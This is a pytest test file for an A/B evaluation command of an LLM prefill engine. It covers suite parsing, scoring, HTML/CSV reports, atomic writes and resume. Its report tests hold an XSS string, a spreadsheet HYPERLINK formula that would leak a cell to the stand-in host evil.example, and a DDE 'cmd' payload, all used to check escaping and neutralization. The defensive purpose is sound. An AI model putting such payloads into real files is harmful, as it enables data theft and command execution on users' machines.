"""A/B suites: parsing, scoring and aggregation over a fake engine, HTML/CSV reports, atomic writes, CLI."""

from __future__ import annotations

import argparse
import base64
import csv
import io
import json
import os
from dataclasses import replace
from pathlib import Path
from types import SimpleNamespace

import pytest

import engine.cli.ab
from engine.cli.ab import add_parser as add_ab_parser
from engine.cli.ab import command as cmd_ab
from engine.core import atomic
from engine.core.atomic import write_text_atomic
from engine.core.cancel import NEVER
from engine.core.errors import Cancelled, ContextOverflowError, SpecPrefillError
from engine.core.events import RunFinished, RunResult, StageChanged
from engine.core.formatting import format_duration
from engine.core.settings import RunSettings
from engine.eval import ab as ab_runner
from engine.eval import plots as plots_module
from engine.eval.ab import (
    AbCaseDone,
    AbError,
    AbFinished,
    AbProgress,
    AbRunDone,
    estimate_remaining,
    parse_keeps,
    run_suite,
    run_suite_report,
)
from engine.eval.ab_environment import settings_record
from engine.eval.journal import JournalHeader, append_case, read_journal, start_journal
from engine.eval.report import render_csv, render_html, write_csv
from engine.eval.results import AbReport
from engine.eval.suite import Case, SuiteError, load_suite
from engine.models import defaults as models
from tests.fixtures.unwritable import make_read_only  # noqa: F401 (a fixture)

# -- a scripted engine ------------------------------------------------------------------
# (question, "baseline" or keep as typed) -> (answer, ttft_s)
SCRIPT = {
    ("grid?", "baseline"): ("The grid has sixteen divisions", 10.0),
    ("grid?", "0.1"): ("Sixteen divisions", 2.0),
    ("grid?", "0.5"): ("Eight divisions", 4.0),
    ("etchant?", "baseline"): ("ferric chloride", 20.0),
    ("etchant?", "0.1"): ("water", 4.0),
    ("etchant?", "0.5"): ("ferric chloride", 6.0),
    ("summary?", "baseline"): ("a guide to mpich", 30.0),
    ("summary?", "0.1"): ("a guide to mpich", 6.0),
    ("summary?", "0.5"): ("totally unrelated words", 8.0),
    ("grid?", "auto"): ("Sixteen divisions", 3.0),
    ("etchant?", "auto"): ("ferric chloride", 5.0),
    ("summary?", "auto"): ("a guide to mpich", 7.0),
}
KEEPS = ["0.1", "0.5"]
AUTO_KEPT = 0.25  # what the fake's keep auto keeps
PROMPT_TOKENS = 1000


def fake_info(target_path: Path = Path("/models/custom-target.gguf")) -> SimpleNamespace:
    return SimpleNamespace(
        target_name="fake target",
        draft_name="fake draft",
        target_path=target_path,
        draft_path=models.DRAFT.path,
        device="cpu",
        positions_supported=True,
        n_ctx=32768,
    )


class FakeEngine:
    """Answers from SCRIPT; records what it was asked so tests can check the settings it got."""

    def __init__(self, script=SCRIPT, bypass_keeps=(), fail_on=None, info=None):
        self.script = script
        self.bypass_keeps = set(bypass_keeps)
        self.fail_on = fail_on
        self.info = info or fake_info()
        self.calls: list[tuple] = []
        self.closed = False
        self.warm_sessions: set[int] = set()  # sessions whose document prefix a baseline has cached

    def ask(self, session, question, mode, settings, cancel=NEVER):
        """A session run (--reuse-cache): a session's first baseline is cold, the next ones are served
        from its cache, ten times faster than the script says; SpecPrefill runs are cold ("spec")."""
        cached = mode == "baseline" and id(session) in self.warm_sessions
        served_by = "spec" if mode == "spec" else "cached_full" if cached else "cold_full"
        for event in self.stream(session.text, question, mode, settings, cancel):
            if isinstance(event, RunFinished):
                ttft = event.result.ttft_s / 10 if cached else event.result.ttft_s
                event = RunFinished(mode, replace(event.result, served_by=served_by, ttft_s=ttft))
            yield event
        # Like the engine: a finished baseline leaves the prefix cached; a SpecPrefill run evicts it.
        (self.warm_sessions.add if mode == "baseline" else self.warm_sessions.discard)(id(session))

    def stream(self, document, question, mode, settings, cancel=NEVER):
        self.calls.append((document, question, mode, settings))
        if question == self.fail_on:
            raise ContextOverflowError("the prompt has 40000 tokens")
        key = "baseline" if mode == "baseline" else _typed_keep(settings.keep)
        answer, ttft = self.script[(question, key)]
        yield StageChanged(mode, "tokenizing")
        yield RunFinished(mode, self._result(mode, key, answer, ttft))

    def _result(self, mode, key, answer, ttft) -> RunResult:
        common = dict(
            run=mode,
            answer=answer,
            prompt_tokens=PROMPT_TOKENS,
            ttft_s=ttft,
            decode_tok_s=10.0,
            generated_tokens=4,
            tokenize_s=0.1,
            stop_reason="eos",
        )
        if mode == "baseline" or key in self.bypass_keeps:
            return RunResult(
                **common,
                prefill_tokens=PROMPT_TOKENS,
                target_prefill_s=ttft - 0.2,
                bypassed=mode == "spec",
                bypass_reason="below threshold" if mode == "spec" else "",
            )
        keep = AUTO_KEPT if key == "auto" else float(key)
        return RunResult(
            **common,
            prefill_tokens=int(PROMPT_TOKENS * keep),
            target_prefill_s=ttft - 1.0,
            draft_s=0.8,
            select_s=0.01,
            kept_fraction=keep,
            positions="restore",
            keep_reason="the relevant text is spread" if key == "auto" else "",
        )

    def close(self):
        self.closed = True


def _typed_keep(value: float | str) -> str:
    return value if value == "auto" else next(k for k in KEEPS if float(k) == value)


# -- suite files -------------------------------------------------------------------------
@pytest.fixture
def suite_dir(tmp_path) -> Path:
    docs = tmp_path / "docs"
    docs.mkdir()
    (docs / "xfig.txt").write_text("The XFig grid is sixteen divisions to an inch. Use ferric chloride.")
    (docs / "mpich.txt").write_text("MPICH is an implementation of MPI. Hydra is its process manager.")
    return tmp_path


def write_suite(folder: Path, lines: list[str], name: str = "suite.jsonl") -> Path:
    path = folder / name
    path.write_text("\n".join(lines) + "\n")
    return path


def case_line(**fields) -> str:
    return json.dumps(fields)


GOOD_LINES = [
    "# three cases on two documents",
    case_line(id="grid", doc="docs/xfig.txt", question="grid?", answers=["sixteen", "16"], kind="number"),
    "",
    case_line(
        id="etchant", doc="docs/xfig.txt", question="etchant?", answers=["ferric chloride"], kind="number"
    ),
    case_line(id="summary", doc="docs/mpich.txt", question="summary?", kind="summary"),
]


@pytest.fixture
def suite_path(suite_dir) -> Path:
    return write_suite(suite_dir, GOOD_LINES)


def test_suite_parses_cases_with_paths_relative_to_the_suite_file(
    suite_path, suite_dir, tmp_path, monkeypatch
):
    monkeypatch.chdir(tmp_path.parent)  # the working folder must not matter
    cases = load_suite(suite_path)
    assert [c.id for c in cases] == ["grid", "etchant", "summary"]
    assert cases[0] == Case(
        id="grid",
        doc=(suite_dir / "docs" / "xfig.txt").resolve(),
        question="grid?",
        answers=("sixteen", "16"),
        kind="number",
        line=2,
    )
    assert cases[2].answers is None and cases[2].line == 5


def test_kind_defaults_to_other_and_folders_are_documents(suite_dir):
    path = write_suite(suite_dir, [case_line(id="c", doc="docs", question="what?")])
    (case,) = load_suite(path)
    assert case.kind == "other" and case.doc == (suite_dir / "docs").resolve()


@pytest.mark.parametrize(
    "bad_line, needle",
    [
        ('{"id": "x", "doc": "docs/xfig.txt", "question": "q?"', "invalid JSON"),
        ('["id", "x"]', "expected a JSON object"),
        (case_line(id="x", doc="docs/xfig.txt"), "missing field 'question'"),
        (case_line(id=7, doc="docs/xfig.txt", question="q?"), "field 'id' must be a non-empty string"),
        (
            case_line(id="x", doc="docs/xfig.txt", question="  "),
            "field 'question' must be a non-empty string",
        ),
        (case_line(id="x", doc="docs/xfig.txt", question="q?", answers="sixteen"), "field 'answers'"),
        (case_line(id="x", doc="docs/xfig.txt", question="q?", answers=[]), "field 'answers'"),
        (case_line(id="x", doc="docs/xfig.txt", question="q?", answers=["ok", 3]), "field 'answers'"),
        (case_line(id="x", doc="docs/xfig.txt", question="q?", kind=["fact"]), "field 'kind'"),
        (case_line(id="x", doc="docs/xfig.txt", question="q?", answer=["typo"]), "unknown field 'answer'"),
        (case_line(id="x", doc="docs/nope.pdf", question="q?"), "document not found: docs/nope.pdf"),
    ],
)
def test_bad_line_is_reported_with_file_and_line_number(suite_dir, bad_line, needle):
    path = write_suite(suite_dir, [*GOOD_LINES, "# the next line is bad", bad_line])
    with pytest.raises(SuiteError) as err:
        load_suite(path)
    message = str(err.value)
    assert message.startswith(f"{path}:7: "), message
    assert needle in message
    assert isinstance(err.value, SpecPrefillError)  # the CLI turns it into one line, exit 2


def test_duplicate_id_names_both_lines(suite_dir):
    path = write_suite(suite_dir, [*GOOD_LINES, case_line(id="etchant", doc="docs/mpich.txt", question="q?")])
    with pytest.raises(SuiteError, match=r"suite\.jsonl:6: duplicate id 'etchant' \(first used on line 4\)"):
        load_suite(path)


def test_missing_and_empty_suite_files(suite_dir):
    with pytest.raises(SuiteError, match="no such suite file"):
        load_suite(suite_dir / "absent.jsonl")
    with pytest.raises(SuiteError, match="no cases"):
        load_suite(write_suite(suite_dir, ["# nothing yet", ""]))


# -- keep list -------------------------------------------------------------------------------
def test_keeps_stay_as_typed():
    assert parse_keeps("0.10, 0.2,1") == ["0.10", "0.2", "1"]


@pytest.mark.parametrize("text", ["0", "1.5", "-0.1", "abc", "", "0.1,,0.2", "0.2,0.2", "nan", "inf"])
def test_bad_keep_lists_are_rejected(text):
    with pytest.raises(AbError, match="keep"):
        parse_keeps(text)


# -- running and aggregation ----------------------------------------------------------------
@pytest.fixture
def finished(suite_path):
    engine = FakeEngine()
    events = list(run_suite(engine, load_suite(suite_path), KEEPS, RunSettings(force=True)))
    return engine, events, events[-1].report.to_json()


def test_summary_matches_hand_computed_values(finished):
    _, _, report = finished
    s = report["summary"]
    assert s["n_cases"] == 3 and s["keeps"] == KEEPS
    # baseline: grid and etchant are right; the summary case has no answers
    assert s["baseline"]["accuracy"] == 1.0 and s["baseline"]["n_scored"] == 2
    assert s["baseline"]["mean_ttft_s"] == pytest.approx(20.0)
    # ROUGE-L F1 against the baseline answer:
    #   "Sixteen divisions" vs "The grid has sixteen divisions": P 2/2, R 2/5 -> 4/7
    #   "Eight divisions": LCS 1, P 1/2, R 1/5 -> 2/7;  "water" -> 0;  identical -> 1;  disjoint -> 0
    low, high = s["spec"]["0.1"], s["spec"]["0.5"]
    assert low["accuracy"] == 0.5 and high["accuracy"] == 0.5
    assert low["agreement"] == pytest.approx((4 / 7 + 0 + 1) / 3)
    assert high["agreement"] == pytest.approx((2 / 7 + 1 + 0) / 3)
    assert low["mean_ttft_s"] == pytest.approx(4.0) and high["mean_ttft_s"] == pytest.approx(6.0)
    assert low["speedup"] == pytest.approx(5.0) and high["speedup"] == pytest.approx(20 / 6)
    assert low["mean_kept_fraction"] == pytest.approx(0.1) and high["n_bypassed"] == 0
    assert low["mean_draft_s"] == pytest.approx(0.8)


def test_summary_by_kind(finished):
    by_kind = finished[2]["summary"]["by_kind"]
    assert set(by_kind) == {"number", "summary"}
    number, summary = by_kind["number"], by_kind["summary"]
    assert number["n_cases"] == 2
    assert number["baseline"]["accuracy"] == 1.0 and number["baseline"]["mean_ttft_s"] == pytest.approx(15.0)
    assert number["spec"]["0.1"]["accuracy"] == 0.5
    assert number["spec"]["0.1"]["agreement"] == pytest.approx((4 / 7 + 0) / 2)
    assert number["spec"]["0.5"]["mean_ttft_s"] == pytest.approx(5.0)
    assert summary["baseline"]["accuracy"] is None and summary["baseline"]["mean_ttft_s"] == 30.0
    assert summary["spec"]["0.1"]["accuracy"] is None and summary["spec"]["0.1"]["agreement"] == 1.0
    assert summary["spec"]["0.5"]["agreement"] == 0.0


def test_case_records(finished, suite_dir):
    cases = finished[2]["cases"]
    grid = cases[0]
    assert {k: grid[k] for k in ("id", "kind", "question", "answers", "prompt_tokens")} == {
        "id": "grid",
        "kind": "number",
        "question": "grid?",
        "answers": ["sixteen", "16"],
        "prompt_tokens": PROMPT_TOKENS,
    }
    assert grid["doc"] == str((suite_dir / "docs" / "xfig.txt").resolve())
    assert (
        grid["baseline"]["answer"] == "The grid has sixteen divisions" and grid["baseline"]["correct"] is True
    )
    assert "agreement" not in grid["baseline"] and "draft_s" not in grid["baseline"]
    assert list(grid["spec"]) == KEEPS
    low = grid["spec"]["0.1"]
    assert low["correct"] is True and low["agreement"] == pytest.approx(4 / 7)
    assert {
        "ttft_s",
        "draft_s",
        "select_s",
        "target_prefill_s",
        "kept_fraction",
        "positions",
        "bypassed",
    } <= low.keys()
    assert grid["spec"]["0.5"]["correct"] is False
    assert cases[2]["baseline"]["correct"] is None and cases[2]["spec"]["0.1"]["correct"] is None
    json.dumps(finished[2])  # the whole report is JSON-ready


def test_runs_in_order_with_the_callers_settings_and_each_keep(finished):
    engine, _, _ = finished
    asked = [(question, mode, settings.keep) for _, question, mode, settings in engine.calls]
    assert asked == [
        (q, m, k)
        for q in ("grid?", "etchant?", "summary?")
        for m, k in (("baseline", 0.2), ("spec", 0.1), ("spec", 0.5))
    ]
    assert all(settings.force for *_, settings in engine.calls)  # not overridden by the A/B runner


def test_documents_are_ingested_once_per_path(suite_path, monkeypatch):
    loaded = []
    real_load = ab_runner.load_document
    monkeypatch.setattr(
        ab_runner, "load_document", lambda path, **kw: loaded.append(path) or real_load(path, **kw)
    )
    engine = FakeEngine()
    list(run_suite(engine, load_suite(suite_path), KEEPS, RunSettings()))
    assert [p.name for p in loaded] == ["xfig.txt", "mpich.txt"]
    xfig_docs = {id(doc) for doc, question, *_ in engine.calls if question in ("grid?", "etchant?")}
    assert len(xfig_docs) == 1


def test_progress_events_count_runs_and_estimate_time_left(suite_path):
    ticks = iter(range(0, 1000, 10))  # every clock read is 10 s after the previous one
    events = list(
        run_suite(
            FakeEngine(), load_suite(suite_path), KEEPS, RunSettings(), clock=lambda: float(next(ticks))
        )
    )
    progress = [e for e in events if isinstance(e, AbProgress)]
    done = [e for e in events if isinstance(e, AbRunDone)]
    assert len(progress) == len(done) == 9 and isinstance(events[-1], AbFinished)
    first, second = progress[0], progress[1]
    assert (first.case_number, first.n_cases, first.case_id, first.label) == (1, 3, "grid", "baseline")
    assert first.runs_done == 0 and first.eta_s is None and first.fraction == 0.0
    assert (second.label, second.runs_done, second.runs_total) == ("keep 0.1", 1, 9)
    assert second.eta_s == pytest.approx(second.elapsed_s / 1 * 8)
    assert progress[-1].case_number == 3 and progress[-1].label == "keep 0.5"
    assert [e.label for e in done[:3]] == ["baseline", "keep 0.1", "keep 0.5"]


def test_estimate_remaining():
    assert estimate_remaining(30.0, 0, 10) is None
    assert estimate_remaining(30.0, 3, 10) == pytest.approx(70.0)
    assert estimate_remaining(30.0, 10, 10) == 0.0


def test_bypassed_runs_are_recorded(suite_path):
    report = run_suite_report(FakeEngine(bypass_keeps={"0.5"}), load_suite(suite_path), KEEPS, RunSettings())
    s = report.summary.overall.spec
    assert s["0.5"].n_bypassed == 3 and s["0.1"].n_bypassed == 0
    assert report.cases[0].spec["0.5"].result.bypassed is True
    assert report.environment.positions_used == "restore"


def test_progress_callback_and_report(suite_path):
    seen: list = []
    report = run_suite_report(
        FakeEngine(), load_suite(suite_path), KEEPS, RunSettings(), on_progress=seen.append
    )
    assert [type(e) for e in seen[:2]] == [AbProgress, AbRunDone] and len(seen) == 18
    assert report.summary.overall.baseline.accuracy == 1.0


def test_a_failing_case_becomes_an_error_row_and_the_suite_goes_on(suite_path):
    events = list(run_suite(FakeEngine(fail_on="etchant?"), load_suite(suite_path), KEEPS, RunSettings()))
    (failure,) = [e.failure for e in events if isinstance(e, AbCaseDone) and e.failure]
    assert failure == "case 'etchant' (suite line 4): the prompt has 40000 tokens"
    report = events[-1].report
    data = report.to_json()
    grid, etchant, summary = data["cases"]
    assert "status" not in grid and "error" not in grid  # finished cases keep today's fields only
    assert etchant["status"] == "error" and etchant["error"] == "the prompt has 40000 tokens"
    assert etchant["baseline"] is None and etchant["spec"] == {} and etchant["prompt_tokens"] is None
    assert summary["spec"]["0.1"]["answer"] == "a guide to mpich"  # the case after it ran
    # The figures leave the failed case out, and count it.
    s = data["summary"]
    assert s["n_cases"] == 3 and s["n_errors"] == 1
    assert s["baseline"]["n_scored"] == 1 and s["baseline"]["mean_ttft_s"] == pytest.approx(20.0)
    assert s["by_kind"]["number"]["n_errors"] == 1 and "n_errors" not in s["by_kind"]["summary"]
    assert AbReport.from_json(data) == report
    # Progress skips the failed case's remaining runs.
    progress = [e for e in events if isinstance(e, AbProgress)]
    assert progress[-1].runs_total == 6 and len(progress) == 6 + 1


def test_a_failed_case_shows_in_the_html_and_the_csv(suite_path):
    report = run_suite_report(FakeEngine(fail_on="etchant?"), load_suite(suite_path), KEEPS, RunSettings())
    page = render_html(report)
    assert "Failed: the prompt has 40000 tokens" in page and "1 failed" in page
    rows = list(csv.DictReader(io.StringIO(render_csv(report), newline="")))
    failed = [r for r in rows if r["case_id"] == "etchant"]
    assert [(r["run"], r["error"]) for r in failed] == [("", "the prompt has 40000 tokens")]
    assert all(r["error"] == "" for r in rows if r["case_id"] != "etchant") and len(rows) == 2 * 3 + 1


def test_environment_records_models_runtime_and_settings(suite_path):
    engine = FakeEngine(info=fake_info(target_path=models.TARGET.path))
    report = run_suite_report(engine, load_suite(suite_path), KEEPS, RunSettings(positions="auto"))
    env = report.to_json()["environment"]
    assert env["target"] == {
        "name": "fake target",
        "path": str(models.TARGET.path),
        "default": True,
        "sha256": models.TARGET.sha256,
    }
    assert env["draft"]["sha256"] == models.DRAFT.sha256
    assert env["device"] == "cpu" and env["restore_supported"] is True and env["n_ctx"] == 32768
    assert env["positions_requested"] == "auto" and env["positions_used"] == "restore"
    assert {"python", "torch", "llama_cpp_python"} <= env["versions"].keys()
    assert env["date"] and "keep" not in env["settings"] and env["settings"]["min_tokens"] is None

    custom = run_suite_report(FakeEngine(), load_suite(suite_path), KEEPS, RunSettings()).to_json()[
        "environment"
    ]
    assert custom["target"]["default"] is False and custom["target"]["sha256"] is None


# -- reports -----------------------------------------------------------------------------------
HOSTILE = '<script>alert("x")</script> & more'


@pytest.fixture
def report(suite_path) -> AbReport:
    script = {**SCRIPT, ("grid?", "0.5"): (HOSTILE, 4.0)}
    return run_suite_report(FakeEngine(script=script), load_suite(suite_path), KEEPS, RunSettings())


def test_html_report_embeds_plots_and_escapes_answers(report):
    page = render_html(report)
    assert page.startswith("<!DOCTYPE html>")
    images = page.split('src="data:image/png;base64,')[1:]
    assert len(images) == 2
    for image in images:
        assert base64.b64decode(image.split('"', 1)[0]).startswith(b"\x89PNG\r\n\x1a\n")
    assert "<script>" not in page
    assert "&lt;script&gt;alert(&quot;x&quot;)&lt;/script&gt; &amp; more" in page
    assert "The grid has sixteen divisions" in page and "ferric chloride" in page
    assert "✓ correct" in page and "✗ incorrect" in page
    assert "http://" not in page and "https://" not in page  # nothing external
    assert "keep 0.1" in page and "fake target" in page


def test_ab_command_with_keep_auto_first_writes_its_report(suite_path, tmp_path, fake_loader, capsys):
    html = tmp_path / "ab.html"
    args = parse_ab(
        "--suite", str(suite_path), "--keep", "auto,0.1", "--force", "--json", "--report", str(html)
    )
    assert cmd_ab(args, NEVER) == 0
    spec = json.loads(capsys.readouterr().out)["summary"]["spec"]
    assert list(spec) == ["auto", "0.1"] and spec["auto"]["mean_kept_fraction"] == AUTO_KEPT
    page = html.read_text()
    assert page.count("data:image/png;base64,") == 2 and "keep auto" in page


def test_plots_put_keep_auto_at_the_share_it_kept(suite_path, monkeypatch):
    report = run_suite_report(FakeEngine(), load_suite(suite_path), [*KEEPS, "auto"], RunSettings())
    drawn = []
    monkeypatch.setattr(plots_module, "_finish", lambda fig, ax, keeps: drawn.append(ax) or "")
    plots_module.quality_plot_png(report.summary)
    plots_module.ttft_plot_png(report.summary)
    for ax in drawn:
        stars = [line for line in ax.get_lines() if line.get_marker() == "*"]
        assert stars and all(list(line.get_xdata()) == [AUTO_KEPT] for line in stars)
        assert [text.get_text() for text in ax.texts] == ["auto"] * len(stars)
    accuracy_star = next(line for line in drawn[0].get_lines() if line.get_marker() == "*")
    assert list(accuracy_star.get_ydata()) == [report.summary.overall.spec["auto"].accuracy]


def test_html_report_reads_accuracy_as_the_cli_does(report):
    page = render_html(report)
    assert "100.0% (2/2)" in page and "50.0% (1/2)" in page


def test_html_report_without_any_expected_answers(suite_dir):
    path = write_suite(suite_dir, [case_line(id="summary", doc="docs/mpich.txt", question="summary?")])
    report = run_suite_report(FakeEngine(), load_suite(path), KEEPS, RunSettings())
    assert report.summary.overall.baseline.accuracy is None
    assert render_html(report).count("data:image/png;base64,") == 2


def test_csv_has_one_row_per_case_and_run(report, tmp_path):
    out = tmp_path / "ab.csv"
    write_csv(report, out)
    rows = list(csv.DictReader(io.StringIO(out.read_text(), newline="")))
    assert len(rows) == 3 * (1 + len(KEEPS))
    assert [(r["case_id"], r["run"], r["keep"]) for r in rows[:3]] == [
        ("grid", "baseline", ""),
        ("grid", "spec", "0.1"),
        ("grid", "spec", "0.5"),
    ]
    base, low, high = rows[:3]
    assert base["correct"] == "true" and base["agreement"] == "" and base["draft_s"] == ""
    assert low["correct"] == "true" and float(low["agreement"]) == pytest.approx(4 / 7)
    assert high["answer"] == HOSTILE and high["correct"] == "false"
    assert rows[6]["correct"] == "" and rows[6]["kind"] == "summary"
    assert float(low["ttft_s"]) == 2.0 and low["positions"] == "restore" and low["bypassed"] == "false"
    assert render_csv(report) == out.read_bytes().decode("utf-8")


# -- atomic writes -------------------------------------------------------------------------------
def test_atomic_write_replaces_the_file(tmp_path):
    target = tmp_path / "report.html"
    target.write_text("old")
    os.chmod(target, 0o640)
    write_text_atomic(target, "new ✓")
    assert target.read_text(encoding="utf-8") == "new ✓"
    assert os.stat(target).st_mode & 0o777 == 0o640
    assert os.listdir(tmp_path) == ["report.html"]


def test_failed_atomic_write_leaves_the_old_file_and_no_temporary(tmp_path, monkeypatch):
    target = tmp_path / "report.html"
    target.write_text("previous report")

    def disk_full(fd):
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(atomic.os, "fsync", disk_full)  # fails after part of the data was written
    with pytest.raises(OSError, match="No space"):
        write_text_atomic(target, "x" * 100_000)
    assert target.read_text() == "previous report"
    assert os.listdir(tmp_path) == ["report.html"]


# -- the `ab` command ------------------------------------------------------------------------------
def parse_ab(*argv: str) -> argparse.Namespace:
    parser = argparse.ArgumentParser(prog="specprefill")
    add_ab_parser(parser.add_subparsers(dest="command"))
    return parser.parse_args(["ab", *argv])


class FakeLoader(list):
    """Stands in for engine.cli.ab.load_engine and keeps the engines it made; `kwargs` go to the next one."""

    def __init__(self) -> None:
        super().__init__()
        self.kwargs: dict = {}

    def __call__(self, args, cancel, quiet) -> FakeEngine:
        self.append(FakeEngine(**self.kwargs))
        return self[-1]


@pytest.fixture
def fake_loader(monkeypatch):
    loader = FakeLoader()
    monkeypatch.setattr(engine.cli.ab, "load_engine", loader)
    return loader


@pytest.fixture(autouse=True)
def cache_home(tmp_path, monkeypatch) -> Path:
    """The journal of a suite run without --report or --csv goes to the cache: a fresh one per test."""
    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path / "cache"))
    return tmp_path / "cache"


def test_ab_parser_defaults(suite_path):
    args = parse_ab("--suite", str(suite_path))
    assert args.keep == "0.1,0.2,0.3" and args.positions == "auto" and args.json is False
    assert args.report is None and args.csv is None and args.force is False and args.target is None


def test_ab_command_json_report_and_csv(suite_path, tmp_path, fake_loader, capsys):
    html, table = tmp_path / "ab.html", tmp_path / "ab.csv"
    args = parse_ab(
        "--suite",
        str(suite_path),
        "--keep",
        "0.1,0.5",
        "--force",
        "--json",
        "--report",
        str(html),
        "--csv",
        str(table),
    )
    assert cmd_ab(args, NEVER) == 0
    out, err = capsys.readouterr()
    data = json.loads(out)
    assert set(data) == {"summary", "cases", "environment"}
    assert list(data["summary"]["spec"]) == ["0.1", "0.5"] and data["summary"]["baseline"]["accuracy"] == 1.0
    assert "[ab] case 1/3 grid: baseline (run 1/9" in err
    assert html.read_text().count("data:image/png;base64,") == 2
    assert len(table.read_text().splitlines()) == 1 + 9
    assert len(fake_loader) == 1 and fake_loader[0].closed  # models loaded once, then released


def test_ab_command_prints_a_table(suite_path, fake_loader, capsys):
    assert cmd_ab(parse_ab("--suite", str(suite_path), "--keep", "0.1,0.5"), NEVER) == 0
    out = capsys.readouterr().out
    assert out.splitlines()[0] == "3 cases"
    assert "baseline  100.0% (2/2)" in out and "keep 0.1  50.0% (1/2)" in out and "5.00×" in out
    assert "summary" in out and "agr 100.0%" in out


@pytest.mark.parametrize(
    "argv, needle",
    [
        (["--keep", "0.1,1.5"], "keep must be in (0, 1]"),
        (["--report", "/no/such/folder/ab.html"], "does not exist"),
    ],
)
def test_ab_command_rejects_bad_input_before_loading_models(suite_path, fake_loader, argv, needle):
    with pytest.raises(
        SpecPrefillError, match=needle.replace("(", r"\(").replace(")", r"\)").replace("]", r"\]")
    ):
        cmd_ab(parse_ab("--suite", str(suite_path), *argv), NEVER)
    assert fake_loader == []


def test_format_duration():
    assert [format_duration(s) for s in (4.4, 65, 3725)] == ["4s", "1m05s", "1h02m"]


# -- CSV injection ---------------------------------------------------------------------------------
ATTACK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")'


def test_csv_neutralizes_formulas_in_text_cells_but_not_in_numbers(suite_dir):
    path = write_suite(suite_dir, [case_line(id="=1+1", doc="docs/xfig.txt", question="grid?", kind="@kind")])
    script = {
        **SCRIPT,
        ("grid?", "baseline"): (ATTACK, 10.0),
        ("grid?", "0.1"): ("-0.5", 0.5),
        ("grid?", "0.5"): ("\t+cmd|' /C calc'!A0", 4.0),
    }
    report = run_suite_report(FakeEngine(script=script), load_suite(path), KEEPS, RunSettings())
    base, low, high = csv.DictReader(io.StringIO(render_csv(report), newline=""))
    assert base["answer"] == "'" + ATTACK  # a spreadsheet shows it as text, never runs it
    assert low["answer"] == "'-0.5" and high["answer"] == "'\t+cmd|' /C calc'!A0"
    assert base["case_id"] == "'=1+1" and base["kind"] == "'@kind"
    assert float(low["target_prefill_s"]) == -0.5  # a number stays a number, even a negative one
    assert low["keep"] == "0.1" and low["ttft_s"] == "0.5"


# -- the `ab` command: journal, resume, failures, output folders ------------------------------------
def journal_lines(path: Path) -> list[dict]:
    return [json.loads(line) for line in path.read_text(encoding="utf-8").splitlines()]


def test_ab_command_goes_on_after_a_failing_case_and_journals_each_case(
    suite_path, tmp_path, fake_loader, capsys
):
    fake_loader.kwargs = {"fail_on": "etchant?"}
    html, table = tmp_path / "ab.html", tmp_path / "ab.csv"
    args = parse_ab(
        "--suite", str(suite_path), "--keep", "0.1,0.5", "--report", str(html), "--csv", str(table)
    )
    assert cmd_ab(args, NEVER) == 0
    out, err = capsys.readouterr()
    journal = tmp_path / "ab.journal.jsonl"
    assert f"finished cases go to {journal}" in err
    assert "[ab] failed, the suite goes on: case 'etchant' (suite line 4): the prompt has 40000 tokens" in err
    assert (
        "failed, left out of the figures above (1):" in out and "etchant: the prompt has 40000 tokens" in out
    )
    header, *records = journal_lines(journal)
    assert header["keeps"] == ["0.1", "0.5"] and header["suite"] == str(suite_path.resolve())
    assert [(r["id"], r.get("status")) for r in records] == [
        ("grid", None),
        ("etchant", "error"),
        ("summary", None),
    ]
    assert "Failed: the prompt has 40000 tokens" in html.read_text()
    assert len(table.read_text().splitlines()) == 1 + 2 * 3 + 1


class CancelOn(FakeEngine):
    """Cancelled (as by Ctrl-C) when asked `question`."""

    def __init__(self, question: str) -> None:
        super().__init__()
        self.cancel_on = question

    def stream(self, document, question, mode, settings, cancel=NEVER):
        if question == self.cancel_on:
            raise Cancelled()
        yield from super().stream(document, question, mode, settings, cancel)


def test_ab_resume_runs_only_the_cases_the_journal_lacks(
    suite_path, tmp_path, fake_loader, monkeypatch, capsys
):
    table = tmp_path / "ab.csv"
    argv = ("--suite", str(suite_path), "--keep", "0.1,0.5", "--csv", str(table))
    monkeypatch.setattr(engine.cli.ab, "load_engine", lambda args, cancel, quiet: CancelOn("summary?"))
    with pytest.raises(Cancelled):
        cmd_ab(parse_ab(*argv), NEVER)
    assert [r["id"] for r in journal_lines(tmp_path / "ab.journal.jsonl")[1:]] == ["grid", "etchant"]
    assert not table.exists()

    monkeypatch.setattr(engine.cli.ab, "load_engine", fake_loader)
    assert cmd_ab(parse_ab(*argv, "--resume", "--json"), NEVER) == 0
    out, err = capsys.readouterr()
    assert "resuming from" in err and "2 finished cases will not run again" in err
    assert {question for _, question, *_ in fake_loader[0].calls} == {"summary?"}
    data = json.loads(out)
    assert [c["id"] for c in data["cases"]] == ["grid", "etchant", "summary"]
    assert data["summary"]["spec"]["0.1"]["speedup"] == pytest.approx(5.0)  # as if run in one go
    assert len(table.read_text().splitlines()) == 1 + 9


def test_ab_resume_refuses_a_journal_made_with_other_keeps_or_settings(suite_path, tmp_path, fake_loader):
    report = tmp_path / "ab.html"
    assert (
        cmd_ab(parse_ab("--suite", str(suite_path), "--keep", "0.1,0.5", "--report", str(report)), NEVER) == 0
    )
    with pytest.raises(
        AbError,
        match=r"cannot resume from .*ab\.journal\.jsonl: it was made with keeps '0\.1,0\.5' "
        r"\(now '0\.1'\)",
    ):
        cmd_ab(
            parse_ab("--suite", str(suite_path), "--keep", "0.1", "--report", str(report), "--resume"), NEVER
        )
    with pytest.raises(AbError, match=r"chunk_size 32 \(now 64\)"):
        cmd_ab(
            parse_ab(
                "--suite",
                str(suite_path),
                "--keep",
                "0.1,0.5",
                "--report",
                str(report),
                "--resume",
                "--chunk-size",
                "64",
            ),
            NEVER,
        )
    assert len(fake_loader) == 1  # refused before loading the models


def test_ab_resume_with_an_added_keep_runs_only_that_keep(suite_path, tmp_path, fake_loader, capsys):
    report = tmp_path / "ab.html"
    assert cmd_ab(parse_ab("--suite", str(suite_path), "--keep", "0.5", "--report", str(report)), NEVER) == 0
    capsys.readouterr()
    assert (
        cmd_ab(
            parse_ab(
                "--suite", str(suite_path), "--keep", "0.1,0.5", "--report", str(report), "--resume", "--json"
            ),
            NEVER,
        )
        == 0
    )
    out, err = capsys.readouterr()
    assert "3 finished cases, 3 of which will run only the keeps the journal lacks (0.1)" in err
    asked = [(question, mode, settings.keep) for _, question, mode, settings in fake_loader[1].calls]
    assert asked == [("grid?", "spec", 0.1), ("etchant?", "spec", 0.1), ("summary?", "spec", 0.1)]
    data = json.loads(out)
    assert [list(case["spec"]) for case in data["cases"]] == [
        ["0.1", "0.5"]
    ] * 3  # the keeps' order, not the runs'
